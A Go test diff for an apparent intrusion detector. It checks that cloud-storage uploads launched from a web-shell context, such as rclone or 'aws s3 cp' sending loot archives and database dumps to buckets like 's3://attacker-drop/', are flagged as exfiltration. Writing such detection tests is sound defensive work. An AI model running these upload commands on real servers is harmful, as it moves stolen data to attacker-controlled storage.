@@ -195,3 +195,35 @@ func TestCapabilityRead(t *testing.T) {
 		t.Errorf("capNames: %q", got)
 	}
 }
+
+// TestCloudUpload: a cloud storage client sending local files to a bucket
+// or a remote, for the web server, is data leaving (T1567.002); the same
+// client fetching from the bucket, or listing it, is not.
+func TestCloudUpload(t *testing.T) {
+	for _, c := range []struct {
+		args []string
+		want bool
+	}{
+		{[]string{"rclone", "copy", "/dev/shm/.d/loot.tgz", "drop:bucket/x"}, true},
+		{[]string{"rclone", "sync", "--transfers", "4", "/var/www/html/data", "mega:shop"}, true},
+		{[]string{"rclone", "copy", "a:x", "b:y"}, false}, // remote to remote: nothing of this host
+		{[]string{"rclone", "copy", "drop:bucket/tool", "/tmp/"}, false},
+		{[]string{"rclone", "lsd", "drop:"}, false},
+		{[]string{"aws", "s3", "cp", "/tmp/db.sql.gz", "s3://attacker-drop/db.sql.gz"}, true},
+		{[]string{"aws", "s3", "cp", "--quiet", "/tmp/db.sql.gz", "s3://attacker-drop/"}, true},
+		{[]string{"aws", "s3", "cp", "s3://vendor/feed.csv", "/var/www/html/data/feed.csv"}, false},
+		{[]string{"gsutil", "cp", "/tmp/x.tgz", "gs://b/x.tgz"}, true},
+		{[]string{"aws", "s3", "sync", "s3://a/", "s3://b/"}, false},
+		{[]string{"az", "storage", "blob", "upload", "--file", "/tmp/x", "--container-name", "c"}, true},
+	} {
+		e, s := webShellScene(t)
+		f := findingOf(e.Observe(s.exec(202, 201, 33, "www-data", "/tmp", "/usr/local/bin/"+c.args[0], c.args...), s.tree), "exfil-upload")
+		if (f != nil) != c.want {
+			t.Errorf("%q: exfil-upload %v, want %v", c.args, f != nil, c.want)
+			continue
+		}
+		if f != nil && (f.Stage != StageExfiltrationImpact || !slices.Contains(f.Attack, "T1567.002")) {
+			t.Errorf("%q: stage %s, ATT&CK %v", c.args, f.Stage, f.Attack)
+		}
+	}
+}
